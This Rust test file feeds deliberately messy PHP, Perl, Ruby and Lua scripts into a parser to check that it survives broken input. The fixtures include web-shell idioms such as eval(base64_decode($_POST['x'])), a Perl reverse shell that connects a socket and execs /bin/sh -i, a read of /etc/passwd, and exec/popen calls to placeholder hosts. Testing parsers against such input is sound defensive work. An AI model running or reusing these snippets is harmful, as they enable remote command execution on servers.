//! Scripts with a bit of everything, to be broken.

use super::{Language, read};
use crate::parse::script::shell::survive::survive;

const PHP: &str = r###"<html><?php echo "hi $x[0] $y->z {$a['b']} ${q}\n", 'a\'b'; ?> text <?= $x ?>
<?php
namespace A\B; use C\D as E;
// comment
# comment
$x = "a" . 'b' . chr(65) . $y; $x .= "z"; $x[] = 5; $$n = 1; ${'a'.'b'} = 2;
eval(base64_decode($_POST['x'])); @SyStEm("ls $d"); $f = 'sys'.'tem'; $f('id'); `ls $x`;
function Foo($a, &$b = 1, ...$c) { global $g; static $s = 0; $l = $a; $g = 2; return $l ?: $b; }
if ($a === 1 && !$b) { a(); } elseif ($c) b(); else if ($d): c(); else: d(); endif;
for ($i = 0; $i < 10; $i++) { $o .= chr(ord($s[$i]) ^ 5); }
foreach ($arr as $k => $v) { print $v; } foreach ([1,2] as $q): echo $q; endforeach;
while (!feof($fp)) $d .= fread($fp, 8);
switch ($x) { case 1: a(); break; case 'b': default: c(); }
class Q extends R implements S { public $p = 1; const C = 'x'; public static function m(int $a): ?string { return $this->p . self::C; } }
$o = new Q(1); $o->m()->n['k']::$v; Q::m(...$args); $h = ['a' => 1, 'b' => [2]]; list($a, $b) = $h;
$fn = function($x) use (&$y) { $y = $x; }; $g = fn($x) => $x + 1; (int)$x; include __DIR__ . '/x.php'; require('a');
$s = <<<EOT
  hi $x
  there
  EOT . "x"; $t = <<<'E'
raw $x
E;
try { t(); } catch (\Exception $e) { exit; } finally { z(); }
$r = $x ? 1 : 2; $m = match(true) { 1, 2 => 'a', default => 'b' }; call(name: 5);
preg_replace('/x/e', $_GET["c"], ''); $z = "\x41\u{263a}\101";
assert($_REQUEST[1]) or die("x");
"###;

const PERL: &str = r###"#!/usr/bin/perl
use strict; use Socket qw(inet_aton $x); 
=pod
doc
=cut
my $x = "a$b->{c}[0] @y @{[ 1+2 ]} \x41 $h{k}";
my ($i, $p) = @_; our @a = (1, 2, 3); my %h = (a => 1, 'b' => [2], c => { d => 3 });
sub foo { my ($self, $z) = @_; my $q = shift; return $q . "x" if $z; $z x 3; }
open(my $fh, '<', "/etc/passwd") or die "x: $!"; while (my $l = <$fh>) { chomp $l; print $l; }
system("ls", "-la"); exec "sh -i"; my $o = `id`; my $k = qx{ls $x}; eval $code; eval { risky(); 1 } or print STDERR "no\n";
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")); if (connect(S, sockaddr_in($p, inet_aton($i)))) { open(STDIN, ">&S"); exec("/bin/sh -i"); };
foreach my $e (@a) { push @b, $e if $e =~ /^x(\d+)$/i; } for (my $j = 0; $j < 3; $j++) { $s .= chr($j ^ 5); }
(my $t = $x) =~ s/a/b/g; $t =~ tr/a-z/A-Z/; $x =~ s{(\w)}{chr(ord($1)+1)}ge; 
print join(",", map { $_ * 2 } grep { $_ > 1 } sort { $a <=> $b } @a), "\n"; print map { chr } split /,/, "65,66";
my $d = pack("H*", "6869"); my $u = unpack "u", $x; $ENV{PATH} = "x"; $#a; scalar(@a); @a[0,1]; $$ref{x}; &$code(1); &foo; $obj->m(1)->{k}->[0];
print <<"E1", <<'E2';
hi $x
E1
raw $x
E2
unless ($x) { a() } elsif ($y) { b() } else { c() }
do { $i++ } while ($i < 5); my $c = sub { $_[0] + 1 }; -e $f && unlink $f; my @w = qw/a b/; $x //= 5; next unless $y;
my $s = IO::Socket::INET->new(PeerAddr => "h.invalid", PeerPort => 4); $a = $b ? "c" : "d"; use MIME::Base64; eval(decode_base64("cHJpbnQ="));
__END__
junk )))
"###;

const RUBY: &str = r###"require 'socket'
x = "a#{b + "c"} \x41" + 'd' ; y = %w[a b]; z = :sym; s = %x{ls #{x}}; `id`
def foo(a, b = 1, *c, k: 2, **o, &blk)
  @v = a; w = 2
  if a == 1 then puts "x" elsif b; bar else baz(1) end
  x.reverse
end
[1,2].each { |i| puts i }
[104, 105].map do |c| c.chr end.join
eval(Base64.decode64("cHV0cw==")) if ENV['X']
system "curl", "http://x.invalid"; Kernel.exec("sh"); IO.popen("id").read
class A < B::C
  attr_reader :x
  def self.m(q) = q + 1
  def n; yield 1; end
end
begin
  Net::HTTP.get(URI("http://x.invalid/#{x}"))
rescue StandardError, Foo => e
  warn e.message
ensure
  z
end
case x when 1, 2 then a when "b" then b else c end
while i < 5 do i += 1 end
until x; break; end
a, b = 1, 2
h = { a: 1, "b" => 2, c: [3] }
t = cond ? 1 : 2
foo.bar = 5
u = <<~EOS.strip
  hi #{x}
    there
EOS
l = ->(q) { q * 2 }; l.(3); l.call(4)
send(:eval, "x"); x << "y"; "%s" % x; x[0..3]; x[1, 2]; puts [1].pack("C*")
p x unless y; loop do; end
foo
  .bar(1)
  .baz { 2 }
Process.spawn({"A" => "b"}, "sh", out: "/dev/null")
str.each_byte.map { |b| (b ^ 0x2a).chr }.join
private def q?(x) x end
v = if x then 1 else 2 end
__END__
junk )))
"###;

const LUA: &str = r###"#!/usr/bin/lua
-- comment
--[[ long
comment ]]
local x, y = "a\65\x42" .. 'b' .. 5, [[raw]]
function f(a, ...) local z = a + 1; return load(z)(), 2 end
M.g = function(self) return #self end
function M.a:b(c) self.x = c end
for i = 1, 10 do x = x .. string.char(i) end
for k, v in pairs({a=1, [2]=3, 4}) do print(k, v) end
if x == y then os.execute("id") elseif not z then io.popen"ls":read("*a") else return end
while true do break end
repeat x = x - 1 until x <= 0
require "socket".tcp():connect("h.invalid", 80)
a.b["c"], d = 1, 2
"###;

#[test]
fn broken_php_is_survived() {
    survive(|text| read(Language::Php, text), "<?php ", &[PHP]);
}

#[test]
fn broken_perl_is_survived() {
    survive(|text| read(Language::Perl, text), "", &[PERL]);
}

#[test]
fn broken_ruby_is_survived() {
    survive(|text| read(Language::Ruby, text), "", &[RUBY]);
}

#[test]
fn broken_lua_is_survived() {
    survive(|text| read(Language::Lua, text), "", &[LUA]);
}
